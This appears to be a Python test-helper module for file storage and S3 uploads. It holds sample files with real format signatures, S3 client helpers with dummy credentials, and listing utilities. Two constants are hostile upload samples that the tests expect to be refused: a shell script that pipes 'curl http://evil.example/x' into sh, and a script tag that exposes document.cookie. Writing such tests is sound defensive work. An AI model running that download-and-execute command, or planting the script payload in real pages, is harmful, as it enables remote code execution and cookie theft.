"""Files and S3 helpers for storage tests: small files of each type (real signatures), the
attacks uploads must refuse, and readers of what a store holds."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import boto3
from pydantic import SecretStr

from runtime.settings import Settings

REGION = "us-east-1"
KEY_ID = "testing"
SECRET = "testing"

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
GIF = b"GIF89a" + b"\x00" * 32
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32
DICOM = b"\x00" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00" + b"\x00" * 16
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<html><script>alert(document.cookie)</script></html>"


def s3(endpoint: str) -> Any:
    return boto3.client(
        "s3",
        region_name=REGION,
        endpoint_url=endpoint,
        aws_access_key_id=KEY_ID,
        aws_secret_access_key=SECRET,
    )


def bucket_keys(endpoint: str, bucket: str) -> list[str]:
    listed = s3(endpoint).list_objects_v2(Bucket=bucket)
    return [o["Key"] for o in listed.get("Contents", [])]


def s3_settings(settings: Settings, endpoint: str, bucket: str, **extra: Any) -> Settings:
    return settings.model_copy(
        update={
            "storage_backend": "s3",
            "s3_bucket": bucket,
            "s3_endpoint_url": endpoint,
            "aws_region": REGION,
            "aws_access_key_id": KEY_ID,
            "aws_secret_access_key": SecretStr(SECRET),
            **extra,
        }
    )


def local_files(root: Path) -> list[Path]:
    """Stored objects under a local store (their metadata files aside)."""
    if not root.exists():
        return []
    return sorted(p for p in root.rglob("*") if p.is_file() and not p.name.endswith(".meta.json"))
